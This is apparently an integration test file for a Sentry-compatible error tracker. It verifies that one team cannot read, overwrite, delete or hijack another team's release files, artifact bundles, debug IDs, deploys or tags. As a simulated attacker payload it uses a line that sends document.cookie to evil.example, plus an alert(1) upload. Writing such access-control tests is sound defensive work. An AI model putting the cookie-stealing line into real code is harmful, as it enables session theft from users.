/**
 * Releases, release files and artifact bundles belong to teams through their projects. Three users in two teams:
 * Blue's two members own `blue-app` and upload its maps (real sentry-cli 3.x bundle with a debug ID, plus one
 * legacy release file); Red's member, with the DSN and a token of `red-app`, tries everything the security review
 * tried — download, overwrite and delete Blue's files, delete Blue's bundle, create a deploy, re-link the release,
 * assemble a bundle carrying Blue's debug ID, send an event naming Blue's release — and is refused each time,
 * while Blue's data stays intact, Blue's next event still resolves to Blue's source, and Red's events get none
 * of it. Also the org tag suggestions, which must not list another team's tags. On both dialects.
 */
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { cpSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { addTeamMember, createProject, createTeam, createToken, createUser, ensureDefaults } from '@faultline/store';
import { DIALECTS, startTestServer, waitFor, waitForDigest, type TestServer } from '../helpers/test-server.ts';
import { sentryCli } from './helpers/sentry-cli.ts';
import { multipart } from '../helpers/multipart.ts';
import { framesOf, type StoredEvent } from './helpers/read-events.ts';
import { fixtureEnvelope } from './helpers/browser-event.ts';

const FIXTURE = new URL('../../fixtures/sdk-11.12.0/', import.meta.url).pathname;
const DEBUG_ID = '501739e4-32ae-55df-afa2-57e641abc4a6';
const RELEASE = 'dashboard@2.0.0';
const BLUE_LINE = '  return call.visitor.name.toUpperCase();';
const RED_LINE = '  return fetch("//evil.example/" + document.cookie);';
/** The scopes sentry-cli's docs ask for (org:read, project:releases) plus what reading issues needs. */
const SCOPES = ['org:read', 'project:read', 'project:write', 'project:releases', 'event:read', 'event:write', 'team:read'];

interface Caller {
  token: string;
  api<T = unknown>(path: string, init?: RequestInit): Promise<{ status: number; body: T }>;
}

interface Project {
  id: number;
  slug: string;
  publicKey: string;
}

for (const dialect of DIALECTS) {
  describe(`releases, release files and bundles are scoped to teams (${dialect})`, () => {
    let t: TestServer;
    let blue: Caller;
    let blueMate: Caller;
    let red: Caller;
    let blueApp: Project;
    let redApp: Project;
    let blueFileId: string;
    let bundleId: string;
    let redDist: string;

    const caller = (token: string): Caller => ({
      token,
      async api<T>(path: string, init: RequestInit = {}) {
        const res = await fetch(`${t.url}${path}`, { ...init, headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json', ...(init.headers ?? {}) } });
        const text = await res.text();
        let body: unknown = text;
        try {
          body = text ? JSON.parse(text) : null;
        } catch {
          /* a download */
        }
        return { status: res.status, body: body as T };
      },
    });
    const send = async (p: Project, patch: (ev: Record<string, unknown>) => void): Promise<string> => {
      let eventId = '';
      const body = fixtureEnvelope((ev) => {
        patch(ev);
        eventId = String(ev.event_id);
      });
      const r = await fetch(`${t.url}/api/${p.id}/envelope/?sentry_key=${p.publicKey}&sentry_version=7`, { method: 'POST', body });
      assert.equal(r.status, 200, await r.text());
      await waitForDigest(t);
      return eventId;
    };
    const storedEvent = (p: Project, eventId: string) =>
      waitFor(async () => {
        const r = await t.api<StoredEvent>(`/api/0/projects/faultline/${p.slug}/events/${eventId}/`);
        return r.status === 200 ? r.body : undefined;
      }, `event ${eventId}`);
    const releaseUrl = `/api/0/organizations/faultline/releases/${RELEASE}`;

    before(async () => {
      t = await startTestServer(dialect);
      const { db } = t.server.app;
      const { org } = await ensureDefaults(db);
      const blueTeam = await createTeam(db, org.id, 'blue', 'Blue');
      const redTeam = await createTeam(db, org.id, 'red', 'Red');
      const made = async (teamId: number, slug: string): Promise<Project> => {
        const { project, key } = await createProject(db, { orgId: org.id, teamId, slug, platform: 'javascript' });
        return { id: project.id, slug: project.slug, publicKey: key.public_key };
      };
      blueApp = await made(blueTeam.id, 'blue-app');
      redApp = await made(redTeam.id, 'red-app');
      const member = async (email: string, teamId: number): Promise<Caller> => {
        const user = await createUser(db, { email, passwordHash: 'unused: these users sign in with tokens', isAdmin: false });
        await addTeamMember(db, teamId, user.id);
        return caller((await createToken(db, { userId: user.id, name: email, scopes: SCOPES })).token);
      };
      blue = await member('blue@example.com', blueTeam.id);
      blueMate = await member('blue-mate@example.com', blueTeam.id);
      red = await member('red@example.com', redTeam.id);

      // Blue uploads its build the way CI does: a debug-ID artifact bundle for the release, and one legacy file.
      const dir = mkdtempSync(join(tmpdir(), 'faultline-blue-'));
      cpSync(`${FIXTURE}browser-app/dist`, join(dir, 'dist'), { recursive: true });
      const up = await sentryCli(3, ['sourcemaps', 'upload', '--release', RELEASE, '--url-prefix', '~/dist', join(dir, 'dist')], { url: t.url, token: blue.token, project: blueApp.slug });
      assert.equal(up.code, 0, `${up.stdout}${up.stderr}`);
      const legacy = await fetch(`${t.url}${releaseUrl}/files/`, {
        method: 'POST',
        headers: { authorization: `Bearer ${blue.token}`, 'content-type': 'multipart/form-data; boundary=xYzZY' },
        body: multipart([{ name: 'file', filename: 'config.js', data: 'window.BLUE_SECRET = "blue internal source";\n' }, { name: 'name', data: '~/dist/config.js' }]) as unknown as BodyInit,
      });
      const legacyText = await legacy.text();
      assert.equal(legacy.status, 201, legacyText);
      blueFileId = (JSON.parse(legacyText) as { id: string }).id;
      const bundles = await blue.api<Array<{ bundleId: string; debugIds: string[] }>>(`/api/0/projects/faultline/blue-app/files/artifact-bundles/`);
      assert.equal(bundles.status, 200);
      bundleId = bundles.body.find((b) => b.debugIds.includes(DEBUG_ID))!.bundleId;

      // Red's "build": Blue's files with Red's code in the original source, under the same debug ID.
      const redDir = mkdtempSync(join(tmpdir(), 'faultline-red-'));
      cpSync(`${FIXTURE}browser-app/dist`, join(redDir, 'dist'), { recursive: true });
      const mapPath = join(redDir, 'dist', 'app.js.map');
      const map = readFileSync(mapPath, 'utf8');
      assert.ok(map.includes('return call.visitor.name.toUpperCase();'));
      writeFileSync(mapPath, map.replace('return call.visitor.name.toUpperCase();', RED_LINE.trim()));
      redDist = join(redDir, 'dist');
    });
    after(async () => t?.close());

    it("Blue's own event resolves to Blue's source, and Blue's teammate can read Blue's files", async () => {
      const id = await send(blueApp, (ev) => {
        ev.release = RELEASE;
        ev.tags = { ...(ev.tags as object), squad: 'blue-only-tag' };
      });
      const top = framesOf(await storedEvent(blueApp, id)).at(-1)!;
      assert.deepEqual([top.filename, top.function, top.context_line], ['src/call-panel.js', 'formatCaller', BLUE_LINE]);
      const dl = await blueMate.api<string>(`${releaseUrl}/files/${blueFileId}/?download=1`);
      assert.equal(dl.status, 200);
      assert.match(dl.body, /blue internal source/);
    });

    it("an event sent to Red's project naming Blue's release gets none of Blue's source (debug ID, release + URL)", async () => {
      const withDebugId = await send(redApp, (ev) => {
        ev.release = RELEASE;
      });
      const withoutDebugId = await send(redApp, (ev) => {
        ev.release = RELEASE;
        delete ev.debug_meta;
      });
      for (const id of [withDebugId, withoutDebugId]) {
        const ev = await storedEvent(redApp, id);
        const top = framesOf(ev).at(-1)!;
        assert.equal(top.symbolicated, undefined, JSON.stringify(top));
        assert.equal(top.lineno, 26, 'still the minified line');
        assert.ok(!JSON.stringify(ev).includes('toUpperCase();'), "no line of Blue's original source");
      }
    });

    it("Red can neither read, overwrite nor delete Blue's release files and bundle", async () => {
      // Red's events named the release, which links it to red-app — but only as "seen", never as owner.
      assert.equal((await red.api(`${releaseUrl}/files/${blueFileId}/?download=1`)).status, 404);
      assert.equal((await red.api(`${releaseUrl}/files/${blueFileId}/`)).status, 404);
      const list = await red.api<unknown[]>(`${releaseUrl}/files/`);
      assert.ok(list.status === 404 || (list.status === 200 && list.body.length === 0), JSON.stringify(list));
      assert.equal((await red.api(`${releaseUrl}/files/${blueFileId}/`, { method: 'DELETE' })).status, 404);
      const overwrite = await fetch(`${t.url}/api/0/projects/faultline/red-app/releases/${RELEASE}/files/`, {
        method: 'POST',
        headers: { authorization: `Bearer ${red.token}`, 'content-type': 'multipart/form-data; boundary=xYzZY' },
        body: multipart([{ name: 'file', filename: 'app.js', data: 'alert(1)' }, { name: 'name', data: '~/dist/app.js' }, { name: 'dist', data: 'x' }]) as unknown as BodyInit,
      });
      assert.equal(overwrite.status, 403, await overwrite.text());
      for (const project of ['red-app', 'blue-app']) {
        const del = await red.api<{ detail: string }>(`/api/0/projects/faultline/${project}/files/artifact-bundles/${bundleId}/`, { method: 'DELETE' });
        assert.equal(del.status, 404, JSON.stringify(del.body));
        assert.ok(del.body.detail);
      }
      assert.equal((await red.api(`/api/0/projects/faultline/red-app/artifact-bundles/${bundleId}/files/`)).status, 404);
      const redBundles = await red.api<unknown[]>(`/api/0/projects/faultline/red-app/files/artifact-bundles/`);
      assert.deepEqual(redBundles.body, []);
    });

    it("Red can neither create a deploy on Blue's release nor re-link it to Red's project", async () => {
      const deploy = await red.api<{ detail: string }>(`${releaseUrl}/deploys/`, { method: 'POST', body: JSON.stringify({ environment: 'production' }) });
      assert.ok([403, 404].includes(deploy.status), JSON.stringify(deploy));
      assert.ok(deploy.body.detail);
      const relink = await red.api<{ detail: string }>('/api/0/organizations/faultline/releases/', { method: 'POST', body: JSON.stringify({ version: RELEASE, projects: ['red-app'] }) });
      assert.equal(relink.status, 403, JSON.stringify(relink));
      assert.ok(!relink.body.detail.includes('blue'), 'the refusal does not name Blue’s project');
      const viaProject = await red.api(`/api/0/projects/faultline/red-app/releases/`, { method: 'POST', body: JSON.stringify({ version: RELEASE }) });
      assert.equal(viaProject.status, 403);
      const put = await red.api(releaseUrl + '/', { method: 'PUT', body: JSON.stringify({ projects: ['red-app'], dateReleased: new Date().toISOString() }) });
      assert.ok([403, 404].includes(put.status), JSON.stringify(put));
      const invisible = await red.api<{ detail: string }>('/api/0/organizations/faultline/releases/', { method: 'POST', body: JSON.stringify({ version: 'red@1.0.0', projects: ['blue-app'] }) });
      assert.equal(invisible.status, 400, 'an invisible project is answered like an unknown one');
      const cli = await sentryCli(3, ['releases', 'new', RELEASE], { url: t.url, token: red.token, project: redApp.slug });
      assert.notEqual(cli.code, 0, 'sentry-cli releases new is refused too');
    });

    it("Red cannot assemble a bundle carrying Blue's debug ID, nor attach a bundle to Blue's release", async () => {
      const own = await sentryCli(3, ['sourcemaps', 'upload', '--release', 'red@1.0.0', '--url-prefix', '~/dist', redDist], { url: t.url, token: red.token, project: redApp.slug });
      assert.notEqual(own.code, 0, `${own.stdout}${own.stderr}`);
      assert.match(`${own.stdout}${own.stderr}`, /debug ID 501739e4-32ae-55df-afa2-57e641abc4a6 already belongs/);
      const toBlue = await sentryCli(3, ['sourcemaps', 'upload', '--release', RELEASE, '--url-prefix', '~/dist', redDist], { url: t.url, token: red.token, project: redApp.slug });
      assert.notEqual(toBlue.code, 0, `${toBlue.stdout}${toBlue.stderr}`);
      const all = await t.api<Array<{ bundleId: string; projectIds: number[] }>>(`/api/0/projects/faultline/red-app/files/artifact-bundles/`);
      assert.deepEqual(all.body, [], 'no bundle was stored for red-app');
    });

    it("Blue's data is intact, Blue can still deploy, and Blue's next event still resolves to Blue's source", async () => {
      const files = await blue.api<Array<{ id: string; name: string }>>(`${releaseUrl}/files/`);
      assert.equal(files.status, 200);
      assert.ok(files.body.some((f) => f.id === blueFileId));
      assert.ok(files.body.some((f) => f.name === '~/dist/app.js'));
      const dl = await blue.api<string>(`${releaseUrl}/files/${blueFileId}/?download=1`);
      assert.match(dl.body, /blue internal source/);
      const release = await blue.api<{ projects: Array<{ slug: string }>; deployCount: number }>(`${releaseUrl}/`);
      assert.deepEqual(release.body.projects.map((p) => p.slug), ['blue-app'], "Red's project is not shown to Blue's members");
      assert.equal(release.body.deployCount, 0);
      const deploy = await blue.api(`${releaseUrl}/deploys/`, { method: 'POST', body: JSON.stringify({ environment: 'production' }) });
      assert.equal(deploy.status, 201, 'an event from another team did not lock the owners out');
      const id = await send(blueApp, (ev) => {
        ev.release = RELEASE;
      });
      const top = framesOf(await storedEvent(blueApp, id)).at(-1)!;
      assert.equal(top.context_line, BLUE_LINE);
    });

    it("a bundle delete by Blue's teammate works, and changes nothing for Red", async () => {
      const redBefore = await send(redApp, (ev) => ev);
      const before = framesOf(await storedEvent(redApp, redBefore)).at(-1)!;
      const del = await blueMate.api(`/api/0/projects/faultline/blue-app/files/artifact-bundles/${bundleId}/`, { method: 'DELETE' });
      assert.equal(del.status, 204);
      const redAfter = await send(redApp, (ev) => ev);
      assert.deepEqual(framesOf(await storedEvent(redApp, redAfter)).at(-1), before);
    });

    it('the release lists and org tag suggestions show only releases and tags of visible projects', async () => {
      const redReleases = await red.api<Array<{ version: string; projects: Array<{ slug: string }> }>>('/api/0/organizations/faultline/releases/');
      assert.equal(redReleases.status, 200);
      for (const r of redReleases.body) assert.ok(!r.projects.some((p) => p.slug === 'blue-app'), JSON.stringify(r));
      const blueReleases = await blue.api<Array<{ version: string }>>('/api/0/organizations/faultline/releases/');
      assert.ok(blueReleases.body.some((r) => r.version === RELEASE));
      const keys = await red.api<Array<{ key: string }>>('/api/0/organizations/faultline/tags/');
      assert.equal(keys.status, 200);
      assert.ok(!keys.body.some((k) => k.key === 'squad'), JSON.stringify(keys.body));
      const values = await red.api<unknown[]>(`/api/0/organizations/faultline/tags/squad/values/?project=${blueApp.id}`);
      assert.deepEqual(values.body, []);
      const blueValues = await blue.api<Array<{ value: string }>>('/api/0/organizations/faultline/tags/squad/values/');
      assert.deepEqual(blueValues.body.map((v) => v.value), ['blue-only-tag']);
    });
  });
}
